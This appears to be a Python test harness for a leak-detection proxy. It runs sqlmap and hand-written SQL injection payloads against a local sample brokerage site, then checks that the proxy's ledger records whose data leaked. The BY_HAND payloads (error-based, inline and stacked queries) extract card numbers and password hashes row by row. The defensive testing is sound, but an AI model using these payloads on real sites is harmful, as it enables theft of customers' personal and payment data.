"""sqlmap against the sample broker's seminar search, through Sekisho.

UNION: whoever stands in sqlmap's dump stands in the ledger, and nobody else. Error messages carry values out one by one, in a
way that sqlmap does not know for SQLite: asked for here, and the ledger has what an independent decoder reads in them. Inline
and stacked queries: the site's answers show nobody, by sqlmap and by hand, and the ledger has nobody. Blind techniques: responses
hold nobody, and the session is listed as not boundable by responses. The site's own pagination and autocomplete are not
listed. Each part has a ledger of its own.
"""

import argparse
import csv
import html
import os
import random
import re
import subprocess
import sys
import tempfile
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from referee import product  # noqa: E402
from referee.decoder import Decoder  # noqa: E402
from referee.register import Register  # noqa: E402
from referee.wire import Connection, split_request, split_response  # noqa: E402

ROWS = (3, 32)
SQLMAP_SECONDS_MAX = 240
COLUMNS = {
    "account_id": "account_id", "name": "name", "kana": "kana", "romaji": "romaji", "email": "email", "phone": "phone",
    "card": "pan", "password_hash": "secret",
}
# What a technique's answers show of the row, typed by hand; nothing where the site gives no way.
BY_HAND = {
    "E": "' AND json_extract('{{}}', (SELECT {column} FROM accounts WHERE id = {row})) --",
    "Q": "zzz' || (SELECT {column} FROM accounts WHERE id = {row}) || '",
    "S": "zzz'; SELECT {column}, {column}, {column}, {column}, {column} FROM accounts WHERE id = {row} --",
}
NO_WAY = {"Q": "inline query", "S": "stacked queries"}
PAGES = 200
PAGE_CUSTOMERS = 50


class Part:
    """The site and Sekisho in front of it, in a folder of their own."""

    def __init__(self, folder: Path, seed: int, customers: int = 200):
        folder.mkdir(parents=True)
        self.folder, self.seed, self.customers = folder, seed, customers
        self.site_port, self.port = product.free_port(), product.free_port()
        self.register_csv = folder / "register" / "account_holders.csv"
        self.observed = product.Observed(folder, self.register_csv)
        self.rows: list[dict[str, str]] = []

    @contextmanager
    def running(self):
        command = [
            site(), "--listen", f"127.0.0.1:{self.site_port}", "--seed", self.seed, "--customers", self.customers,
            "--write-register", self.folder / "register",
        ]
        with product.running(command, self.site_port, self.folder / "site.log", stdin=subprocess.PIPE):
            with self.observed.running(self.site_port, self.port):
                yield

    def sqlmap(self, technique: str, *arguments: str) -> None:
        """Runs sqlmap on the search, until its time is over."""
        command = [
            "sqlmap", "--url", f"http://127.0.0.1:{self.port}/seminars?q=FX", "-p", "q", "--dbms", "SQLite",
            "--technique", technique, "--batch", "--flush-session", "--disable-coloring", "--output-dir", str(self.folder / "sqlmap"),
            "--level", "3", "--risk", "2", "-D", "SQLite_masterdb", "-T", "accounts", *arguments,
        ]
        with open(self.folder / "sqlmap.log", "wb") as log:
            try:
                subprocess.run(command, stdin=subprocess.DEVNULL, stdout=log, stderr=log, timeout=SQLMAP_SECONDS_MAX)
            except subprocess.TimeoutExpired:
                print(f"sqlmap was ended after {SQLMAP_SECONDS_MAX} s; what it had dumped counts")

    def value(self, number: int, column: str) -> str:
        """What the site's database has there: the register's rows are its accounts, from 1."""
        if not self.rows:
            with open(self.register_csv, encoding="utf-8-sig", newline="") as file:
                self.rows = list(csv.DictReader(file))
        return self.rows[number - 1][column]

    def dump(self) -> list[dict[str, str]]:
        files = list((self.folder / "sqlmap").rglob("accounts.csv*"))
        if not files:
            return []
        with open(files[0], encoding="utf-8", newline="") as file:
            return list(csv.DictReader(file))


def site() -> Path:
    """The sample broker; `SEKISHO_SITE` names another build."""
    return Path(os.environ.get("SEKISHO_SITE", product.executable().parent / "examples" / "site"))


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seed", type=int, default=None, help="random when not given")
    parser.add_argument("--keep", type=Path, help="work in this folder and leave it")
    parser.add_argument("--parts", nargs="*", default=["union", "errors", "no-way", "blind", "ordinary"])
    options = parser.parse_args()
    seed = options.seed if options.seed is not None else random.SystemRandom().randrange(1 << 32)
    print(f"seed {seed}")
    results = []
    with tempfile.TemporaryDirectory(prefix="sekisho-sqlmap-") as temporary:
        folder = options.keep or Path(temporary)
        if "union" in options.parts:
            results += union(Part(folder / "union", seed))
        if "errors" in options.parts:
            results += errors(Part(folder / "errors", seed))
        if "no-way" in options.parts:
            for technique, name in NO_WAY.items():
                results += no_way(Part(folder / technique, seed), technique, name)
        if "blind" in options.parts:
            for technique, name in (("B", "boolean-based blind"), ("T", "time-based blind")):
                results += blind(Part(folder / technique, seed), technique, name)
        if "ordinary" in options.parts:
            results += ordinary(Part(folder / "ordinary", seed, PAGES * PAGE_CUSTOMERS))
    passed = results.count(True)
    print(f"{passed} passed, {len(results) - passed} failed")
    return 0 if passed == len(results) else 1


def union(part: Part) -> list[bool]:
    with part.running():
        part.sqlmap("U", "--dump", "--start", str(ROWS[0]), "--stop", str(ROWS[1]))
    rows, recorded = part.dump(), part.observed.persons()
    register = Register.read(part.register_csv, COLUMNS, "account_id")
    expected = {owner for row in rows for owner in owners(register, row)}
    difference = expected ^ set(recorded)
    for key in sorted(difference)[:10]:
        print(f"UNION query: {key} is {'in the dump, not in the ledger' if key in expected else 'in the ledger, not in the dump'}")
    fields = sorted({field for fields in recorded.values() for field in fields})
    print(f"UNION query: {len(rows)} rows dumped, {len(expected)} persons in the dump, {len(recorded)} in the ledger, fields {' '.join(fields)}")
    return [len(rows) > 0, not difference, verified(part)]


def errors(part: Part) -> list[bool]:
    """The README's hole 1: each value in a message of its own. sqlmap has no error-based technique for SQLite: it finds none."""
    read, left, wrong = 0, set(), []
    with part.running():
        part.sqlmap("E", "--dump", "--start", str(ROWS[0]), "--stop", str(ROWS[1]))
        by_sqlmap = len(part.dump())
        register = Register.read(part.register_csv, COLUMNS, "account_id")
        decoder = Decoder(register)
        connection = Connection(("127.0.0.1", part.port), "127.0.0.2")
        for number in range(ROWS[0], ROWS[1] + 1):
            for column in COLUMNS:
                exchange = connection.get(f"/seminars?q={quote(BY_HAND['E'].format(column=column, row=number))}")
                status, headers, body = split_response(exchange.response)
                message = re.search("JSON path[^']*'(.*?)' *</code>", html.unescape(body.decode()), re.DOTALL)
                value = message[1] if message else None
                read += 1
                if status != 500 or value != part.value(number, column):
                    wrong.append((number, column, status, value))
                parts = [(text.encode("latin-1"), "utf-8") for text in headers.values()] + [(body, "utf-8")]
                left |= decoder.response(split_request(exchange.request), parts)[0]
        connection.close()
    recorded = {(key, column) for key, columns in part.observed.persons("--client", "127.0.0.2").items() for column in columns}
    for title, difference in (("received, not in the ledger", left - recorded), ("in the ledger, not received", recorded - left)):
        for key, column in sorted(difference)[:10]:
            print(f"error messages: {title}: {key} {column}")
    print(f"error messages: sqlmap dumps {by_sqlmap} rows; by hand {read} values read, {len(wrong)} wrong {wrong[:3]}; {len(left)} of them identify"
          f" somebody, {len(recorded)} in the ledger")
    return [not wrong, len(left) >= ROWS[1] - ROWS[0], left == recorded, verified(part)]


def no_way(part: Part, technique: str, name: str) -> list[bool]:
    """The site runs one statement and shows titles only, so that no answer shows anybody: by sqlmap and by hand."""
    shown = []
    with part.running():
        part.sqlmap(technique, "--dump", "--start", str(ROWS[0]), "--stop", str(ROWS[1]))
        connection = Connection(("127.0.0.1", part.port), "127.0.0.2")
        for number in range(ROWS[0], ROWS[1] + 1):
            for column in COLUMNS:
                answer = connection.get(f"/seminars?q={quote(BY_HAND[technique].format(column=column, row=number))}").response
                shown += [(number, column)] if part.value(number, column) in html.unescape(answer.decode()) else []
        connection.close()
    rows, recorded = part.dump(), part.observed.persons()
    print(f"{name}: sqlmap dumps {len(rows)} rows, by hand {len(shown)} values are shown; {len(recorded)} persons in the ledger")
    return [not rows, not shown, not recorded, verified(part)]


def owners(register: Register, row: dict[str, str]) -> set[str]:
    """The row's person, and whoever shares a value of it."""
    found = {row["account_id"]}
    for kind, column in (("email", "email"), ("phone", "phone"), ("pan", "card")):
        value = row[column].lower() if kind == "email" else re.sub("[^0-9]", "", row[column])
        found |= {key for key, _ in register.strong[kind].get(value, ())}
    return found


def blind(part: Part, technique: str, name: str) -> list[bool]:
    with part.running():
        part.sqlmap(technique, "--dump", "-C", "email", "--start", "1", "--stop", "1", "--time-sec", "1")
    rows, scope = part.dump(), part.observed.scope()
    persons = sum(register["persons"] for register in scope["registers"])
    listed = scope["not_boundable"]
    print(f"{name}: {len(rows)} rows dumped, {persons} persons in the ledger, not boundable: {len(listed)} listed")
    return [persons == 0, len(listed) > 0, verified(part)]


def ordinary(part: Part) -> list[bool]:
    """A visitor who types into the search, letter by letter, and pages through lists."""
    words = ["FX入門セミナー", "O'Brien & Co. (東京)", "ドル/円 and ユーロ", "リスク管理 -- 基礎", "where to begin?", "select a seminar"]
    with part.running():
        connection = Connection(("127.0.0.1", part.port), "127.0.0.1")
        statuses = set()
        for word in words:
            for end in range(1, len(word) + 1):
                for target in (f"/api/autocomplete?q={quote(word[:end])}", f"/seminars?q={quote(word[:end])}"):
                    statuses.add(split_response(connection.get(target).response)[0])
        pages = []
        for page in range(1, PAGES + 1):
            status, _, body = split_response(connection.get(f"/staff/customers?page={page}", Cookie="staff=hakone-staff").response)
            statuses.add(status)
            pages.append(frozenset(re.findall("HK[0-9]{8}", body.decode())))
        connection.close()
    shown = set().union(*pages)
    scope = part.observed.scope()
    listed, persons = scope["not_boundable"], sum(register["persons"] for register in scope["registers"])
    print(f"pagination and autocomplete: {len(set(pages))} pages with {len(shown)} customers, {persons} in the ledger,"
          f" {len(listed)} sessions listed as not boundable, statuses {sorted(statuses)}")
    return [len(set(pages)) == PAGES, len(shown) == persons == PAGES * PAGE_CUSTOMERS, not listed, verified(part)]


def verified(part: Part) -> bool:
    checked = part.observed.verify()
    if checked.returncode != 0:
        print(f"the ledger does not verify: {checked.stdout}{checked.stderr}")
    return checked.returncode == 0


if __name__ == "__main__":
    sys.exit(main())
